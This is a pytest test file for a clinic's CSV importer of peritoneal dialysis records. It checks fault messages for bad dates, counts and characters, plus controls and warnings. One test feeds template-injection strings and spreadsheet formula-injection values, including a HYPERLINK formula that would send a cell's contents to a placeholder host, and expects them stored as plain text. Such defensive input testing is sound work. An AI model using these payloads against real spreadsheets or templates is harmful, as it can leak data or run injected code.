"""The rows of bad_inputs.csv that name record files: each fault told in full, each control stored.

The ids are those of the file. A rejected folder stores nothing; its nearest good neighbour loads.
"""

import pytest

from clinic.models import (
    CatheterInfection,
    EffluentSample,
    Isolate,
    Patient,
    PdSpell,
    Peritonitis,
    Training,
)
from tests.clinic.base_record import base, with_cells, with_row
from tests.clinic.imports.folders import run, stored_counts, write_folder

pytestmark = pytest.mark.django_db


def cell(subject, **cells):
    return with_cells(subject, **cells)


def onset(text):
    return cell("peritonitis", onset_on=text)


def count(text):
    return cell("effluent_samples", leucocytes_per_ul=text)


def drawn(text):
    return cell("effluent_samples", collected_at=text)


def organism(text):
    return cell("isolates", organism=text)


def result(**cells):
    given = {"episode": "E1", "sample": "S1", "organism": "Staphylococcus aureus", "result": "S"}
    return {"clinic": "TQ", "patient": "P031", "agent": "cefazolin"} | given | cells


ORGANISM_IN_TWO_LINES = 'said "wet"\nthen went home'

# id: (record, column, what is said)
REJECTED = {
    "D01": (onset("2025-02-30"), "onset_on", "30 February 2025 is not in the calendar"),
    "D02": (cell("catheters", inserted_on="2023-02-29"), "inserted_on", "2023 has no 29 February"),
    "D03": (onset("2026-01-21"), "onset_on", "after today (20 Jan 2026 at Tern Quay)"),
    "D04": (onset("1961-05-13"), "onset_on", "(13 May 1961) is before birth (14 May 1961)"),
    "D07": (
        cell("catheters", removed_on="2024-01-09"),
        "removed_on",
        "before insertion (10 Jan 2024)",
    ),
    "D08": (cell("pd_spells", last_day_on="2024-02-04"), "last_day_on", "before its first day"),
    "D09": (onset("03/04/2025"), "onset_on", "write 2025-04-03 or 2025-03-04"),
    "D10": (onset("25-03-10"), "onset_on", "four-digit year, two-digit month and day, hyphens"),
    "D11": (
        cell("pd_spells", last_day_on="9999-12-31"),
        "last_day_on",
        "leave empty while PD goes on",
    ),
    "D11-2099": (
        cell("pd_spells", last_day_on="2099-12-31"),
        "last_day_on",
        "leave empty while PD goes on",
    ),
    "D12": (
        cell("patients", birth_date="1900-01-01"),
        "birth_date",
        "age 124 at PD start (at most 110, setting); 1 Jan 1900 is often an empty spreadsheet cell",
    ),
    "D14": (drawn("2025-03-30T01:30"), "collected_at", "clocks went from 01:00 to 02:00"),
    "D15": (drawn("2025-10-26T01:30"), "collected_at", "happened twice"),
    "D17": (
        cell("peritonitis", therapy_completed_on="2025-03-09"),
        "therapy_completed_on",
        "before onset (10 Mar 2025)",
    ),
    "N01": (count("0.65"), "leucocytes_per_ul", "0.65 x10^9/L is 650 per uL"),
    "N03": (count("2300000"), "leucocytes_per_ul", "above 500 000 per uL (setting)"),
    "N04": (cell("effluent_samples", neutrophil_percent="101"), "neutrophil_percent", "0 to 100"),
    "N07": (cell("effluent_samples", dwell_hours="2,5"), "dwell_hours", "write 2.5"),
    "N08": (count("６５０"), "leucocytes_per_ul", "digits 0-9"),
    "N09": (count("1_250"), "leucocytes_per_ul", "digits only"),
    "N09-quoted": (count("1,250"), "leucocytes_per_ul", "digits only"),
    "N09-blank": (count("1\u202f250"), "leucocytes_per_ul", "digits only"),
    "N09-large": (count("9" * 20), "leucocytes_per_ul", "too large"),
    "N10": (cell("peritonitis", cloudy_effluent="TRUE"), "cloudy_effluent", "yes, no, unknown"),
    "N11": (
        cell("effluent_samples", dwell_hours="240"),
        "dwell_hours",
        "240 minutes are 4 hours",
    ),
    "T01": (organism("Cloudy bag\x00 since 06:00"), "organism", "contains a null character"),
    "T02": (cell("trainings", trainer="T-01\u202egnp"), "trainer", "direction character U+202E"),
    "T09": (
        with_row("pd_pauses", patient="P0\u200b31", started_on="2025-05-01"),
        "patient",
        "invisible character U+200B",
    ),
    "F21": (
        with_row("isolates", episode="E1", sample="S9", organism="Escherichia coli"),
        "sample",
        "S9 is not in this folder and not in the record",
    ),
    "L05": (
        cell("effluent_samples", culture="no_growth"),
        "culture",
        "but organism Staphylococcus aureus grew in it",
    ),
    "L06": (
        base() | {"susceptibilities": [result(organism="Escherichia coli")]},
        "organism",
        "not an isolate of S1",
    ),
}


@pytest.mark.parametrize("name", REJECTED)
def test_a_bad_cell_is_told_in_one_line_and_nothing_is_stored(name, tmp_path):
    record, column, said = REJECTED[name]
    refused = run(write_folder(tmp_path, record))
    assert refused.exit_code == 1 and stored_counts() == {}
    (fault,) = refused.faults
    assert f", {column}: " in fault and said in fault


def test_a_fault_names_file_row_line_column_value_and_what_is_allowed(tmp_path):
    (fault,) = run(write_folder(tmp_path, cell("peritonitis", resolved="Y"))).faults
    assert fault == ("peritonitis.csv row 1 (line 2), resolved: Y - allowed: yes, no, unknown")


LOADED = {
    "D01": onset("2025-02-28"),
    "D02": cell("catheters", inserted_on="2024-02-29"),
    "D02-birth": cell("patients", birth_date="1960-02-29"),
    "D03": cell("peritonitis", onset_on="2026-01-20", therapy_completed_on=""),
    "D07": cell("catheters", removed_on="2024-01-10"),
    "D08": cell("pd_spells", last_day_on="2024-02-05"),
    "D14": drawn("2025-03-30T01:30+00:00"),
    "D15": drawn("2025-10-26T01:30+01:00"),
    "D17": cell("peritonitis", therapy_completed_on="2025-03-10"),
    "D18": with_row("pd_pauses", started_on="2025-03-29", last_day_on="2025-03-31",
                    reason="temporary_haemodialysis"),
    "N03": count("50000"),
    "N04-0": cell("effluent_samples", neutrophil_percent="0"),
    "N04-100": cell("effluent_samples", neutrophil_percent="100"),
    "N10": cell("peritonitis", cloudy_effluent=""),
    "N11": cell("effluent_samples", dwell_hours="14"),
    "F21": with_row("isolates", episode="E1", sample="S1", organism="Escherichia coli"),
    "L06": base() | {"susceptibilities": [result(organism="S. aureus")]},
    "L07": base() | {"susceptibilities": [result(), result(agent="vancomycin", result="R")]},
}  # fmt: skip


@pytest.mark.parametrize("name", LOADED)
def test_the_nearest_good_record_is_stored(name, tmp_path):
    record = LOADED[name]
    assert run(write_folder(tmp_path, record)).exit_code == 0
    assert stored_counts() == {subject: len(rows) for subject, rows in record.items()}


# id: (record, what is said); all of it is stored
WARNED = {
    "D16": (cell("peritonitis", first_antibiotic_at="2025-03-10T09:00"), "before arrival"),
    "N02": (count("2"), "very low beside a cloudy bag; 2 x10^9/L would be 2000 per uL"),
    "N03": (count("50000"), "50 000 per uL is very high"),
    "N05": (
        cell("effluent_samples", neutrophil_percent="0.88"),
        "0.88 percent? 88 would be written 88",
    ),
    "T09": (with_row("pd_pauses", patient="\u00a0P031 ", started_on="2025-05-01"), "outer blanks"),
    "I03": (
        base()
        | {
            "patients": with_row("patients", patient="P131", birth_date="1961-05-14", sex="female")[
                "patients"
            ],
            "pd_spells": with_row("pd_spells", patient="P131", started_on="2025-01-01")[
                "pd_spells"
            ],
        },
        "may be the same person as P131",
    ),
    "L02": (with_row("catheters", catheter="C2", inserted_on="2025-04-02"), "C1 still in?"),
    "L03": (base() | {"pd_spells": []}, "not counted: not on PD that day"),
    "L04": (base() | {"isolates": []}, "grown, not yet named"),
    "L10": (cell("patients", died_on="2025-06-30"), "time at risk ends with 30 Jun 2025"),
    "L15": (with_row("peritonitis", episode="E2", onset_on="2025-03-31"), "same episode as E1"),
}


@pytest.mark.parametrize("name", WARNED)
def test_a_doubtful_record_is_stored_and_listed(name, tmp_path):
    record, said = WARNED[name]
    loaded = run(write_folder(tmp_path, {name: rows for name, rows in record.items() if rows}))
    assert loaded.exit_code == 0 and said in "\n".join(loaded.warnings)
    assert Peritonitis.objects.exists()


def test_l01_overlapping_spells_are_both_stored(tmp_path):
    record = with_row("pd_spells", started_on="2024-06-15", modality="apd")
    record["pd_spells"][0]["last_day_on"] = "2024-06-30"
    loaded = run(write_folder(tmp_path, record))
    assert "16 days overlap" in loaded.err and PdSpell.objects.count() == 2


def test_l15_an_unknown_end_is_listed(tmp_path):
    record = with_row("peritonitis", episode="E2", onset_on="2025-04-20")
    record["peritonitis"][0]["therapy_completed_on"] = ""
    loaded = run(write_folder(tmp_path, record))
    assert loaded.exit_code == 0 and "undetermined, never new" in loaded.err


@pytest.mark.parametrize(
    ("died", "exit_code"), [("2025-03-09", 1), ("2025-03-31", 0)], ids=["D06", "D06-control"]
)
def test_d06_a_death_before_the_onset_names_both(died, exit_code, tmp_path):
    told = run(write_folder(tmp_path, cell("patients", died_on=died)))
    assert told.exit_code == exit_code
    if exit_code:
        line = next(line for line in told.faults if "onset_on: 2025-03-10" in line)
        assert "one of them is wrong" in line and "died_on: 2025-03-09" in line


def test_l09_a_spell_after_death_names_both(tmp_path):
    record = cell("patients", died_on="2025-06-30")
    spell = {"started_on": "2025-07-15", "last_day_on": ""}
    record["pd_spells"].append({"clinic": "TQ", "patient": "P031"} | spell)
    (fault,) = run(write_folder(tmp_path, record)).faults
    assert "started_on: 2025-07-15" in fault and "patients.csv row 1" in fault


@pytest.mark.parametrize(
    ("subject", "more", "said"),
    [
        pytest.param("peritonitis", {"episode": "E1", "onset_on": "2025-03-12"},
                     "the same episode E1 as row 1 (line 2), with onset_on 2025-03-10 and "
                     "2025-03-12", id="F19"),
        pytest.param("patients", {"birth_date": "1961-05-15"},
                     "the same patient P031 as row 1 (line 2), with birth_date 1961-05-14 and "
                     "1961-05-15", id="I01"),
    ],
)  # fmt: skip
def test_a_key_twice_names_both_rows(subject, more, said, tmp_path):
    (fault,) = run(write_folder(tmp_path, with_row(subject, **more))).faults
    assert fault.startswith(f"{subject}.csv row 2 (line 3)") and said in fault


def test_f19_identical_rows_are_a_fault_too(tmp_path):
    record = base()
    record["peritonitis"] *= 2
    (fault,) = run(write_folder(tmp_path, record)).faults
    assert "the same episode E1 as row 1 (line 2); allowed: one row each" in fault


def test_l07_two_results_of_one_agent_name_both_rows(tmp_path):
    rows = [result(), result(organism="S. aureus", result="R")]
    (fault,) = run(write_folder(tmp_path, base() | {"susceptibilities": rows})).faults
    assert "row 2 (line 3)" in fault and "as row 1 (line 2)" in fault and "S and R" in fault


def test_i02_numbers_are_text_and_belong_to_their_clinic(tmp_path):
    record = base()
    for clinic, number in (("SM", "P031"), ("TQ", "000123"), ("TQ", "123")):
        record["patients"].append({"clinic": clinic, "patient": number})
    assert run(write_folder(tmp_path, record)).exit_code == 0
    numbers = Patient.objects.values_list("clinic__code", "number")
    assert set(numbers) == {("TQ", "P031"), ("SM", "P031"), ("TQ", "000123"), ("TQ", "123")}


def test_d13_a_moment_in_utc_leaves_the_onset_alone(tmp_path):
    assert run(write_folder(tmp_path, drawn("2025-03-31T23:30:00Z"))).exit_code == 0
    assert EffluentSample.objects.get().collected_at.isoformat() == "2025-03-31T23:30:00+00:00"
    assert Peritonitis.objects.get().onset_on.isoformat() == "2025-03-10"


def test_t04_one_trainer_has_one_spelling(tmp_path):
    record = cell("trainings", trainer="Zoe\u0308")
    record["trainings"].append(
        record["trainings"][0] | {"trainer": "Zo\u00eb", "kind": "scheduled"}
    )
    assert run(write_folder(tmp_path, record)).exit_code == 0
    assert set(Training.objects.values_list("trainer", flat=True)) == {"Zo\u00eb"}


@pytest.mark.parametrize(
    "text",
    [
        "patient ok \U0001f637 \U0001f469\U0001f3fd\u200d\u2695\ufe0f",
        "{{ 7*7 }} {% debug %} ${7*7} %(password)s {0.__class__}",
        '=HYPERLINK("http://x.invalid/"&A2)',
        "+44 20",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        ORGANISM_IN_TWO_LINES,
    ],
    ids=["T03", "T07", "T08-link", "T08-plus", "T08-minus", "T08-at", "T08-tab", "T08-cr", "F06"],
)
def test_what_the_laboratory_wrote_is_stored_as_typed(text, tmp_path):
    assert run(write_folder(tmp_path, organism(text))).exit_code == 0
    assert Isolate.objects.get().organism == text


def test_f06_a_row_number_is_no_line_number(tmp_path):
    infection = {"clinic": "TQ", "patient": "P031", "site": "exit_site", "onset_on": "2025-05-01"}
    rows = [
        infection | {"infection": name, "organism": text, "refractory": ""}
        for name, text in (("X1", ""), ("X2", ORGANISM_IN_TWO_LINES), ("X3", ""))
    ]
    bad = [*rows[:2], rows[2] | {"onset_on": "2025-05-32"}]
    (fault,) = run(write_folder(tmp_path / "bad", base() | {"catheter_infections": bad})).faults
    assert fault.startswith("catheter_infections.csv row 3 (line 5), onset_on: 2025-05-32")
    good = write_folder(tmp_path / "good", base() | {"catheter_infections": rows})
    assert run(good).exit_code == 0
    assert CatheterInfection.objects.get(infection="X2").organism == ORGANISM_IN_TWO_LINES


def test_l08_a_moved_person_is_a_patient_of_each_clinic(tmp_path):
    record = base()
    here = {"clinic": "SM", "patient": "M7"}
    more = {
        "patients": {"birth_date": "1961-05-14", "sex": "female"},
        "pd_spells": {"started_on": "2025-04-01"},
        "catheters": {"catheter": "C1", "inserted_on": "2024-01-10"},
        "peritonitis": {"episode": "E1", "onset_on": "2025-04-05"},
    }
    for subject, cells in more.items():
        record[subject].append(here | cells)
    loaded = run(write_folder(tmp_path, record))
    assert loaded.exit_code == 0 and Peritonitis.objects.count() == 2
    assert "earlier history not known here" in loaded.err and "same person" not in loaded.err
